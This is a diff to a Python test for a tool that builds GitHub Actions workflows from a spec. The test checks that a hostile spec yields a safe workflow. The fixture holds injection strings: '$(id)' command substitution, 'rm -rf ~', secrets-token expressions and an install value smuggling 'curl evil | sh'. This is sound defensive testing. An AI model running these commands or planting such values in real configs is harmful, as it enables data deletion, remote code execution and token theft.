@@ -21,7 +21,8 @@ OURS = re.compile(r"\$\{\{ (github\.(ref|token|repository)|secrets\.[A-Za-z_][A-
 EVIL = "x${{ github.token }}\"'`$(id)`\n${HOME}; rm -rf ~ #"
 
 HOSTILE = r'''version: 1
-name: "wf ${{ secrets.TOKEN }} `id`"
+name: hostile
+description: "wf ${{ secrets.TOKEN }} `id`"
 hosts:
   api: {url: "${API_URL:-http://127.0.0.1:1}"}
 http:
@@ -34,7 +35,7 @@ sql:
   queries:
     one: {sql: "SELECT 1"}
 profiles:
-  "p ${{ github.token }} \"'`$(id)`\n${HOME}": {users: 1, for: 1s}
+  p: {users: 1, for: 1s, description: "p ${{ github.token }} \"'`$(id)`\n${HOME}"}
 targets:
   - {name: t, select: {endpoint: ping}, p95: < 1s}
 ci:
@@ -42,11 +43,10 @@ ci:
     on: [push, pull_request, schedule, workflow_dispatch]
     branches: ["main", "feat/${{github.event.issue.title}}", "a\"b'c`d`$(id)"]
     schedule: "0 2 * * *"
-    profile: "p ${{ github.token }} \"'`$(id)`\n${HOME}"
+    profile: p
     baseline: "b${{github.token}}`id`\"'"
     install: "perfspec[run] \"; curl evil | sh; ${{ secrets.X }}"
 '''
-HOSTILE_PROFILE = "p ${{ github.token }} \"'`$(id)`\n${HOME}"
 
 
 def perfspec(*args: str, cwd: Path) -> subprocess.CompletedProcess:
@@ -151,7 +151,7 @@ def test_hostile_spec_yields_a_clean_workflow_that_keeps_spec_text_as_data(tmp_p
             assert piece not in step.get("run", "")
     # what GitHub hands the scripts is exactly the spec's text
     env = {k: evaluate(v, {}) for k, v in job["env"].items()}
-    assert env["PERFSPEC_PROFILE"] == HOSTILE_PROFILE
+    assert env["PERFSPEC_PROFILE"] == "p"  # names are plain: hostile ones are refused (test_build.py)
     assert env["PERFSPEC_BASELINE"] == "b${{github.token}}`id`\"'"
     assert env["PERFSPEC_INSTALL"] == "perfspec[run] \"; curl evil | sh; ${{ secrets.X }}"
     # `on:` is never evaluated: branch names stay plain strings (ones git cannot name, with a line
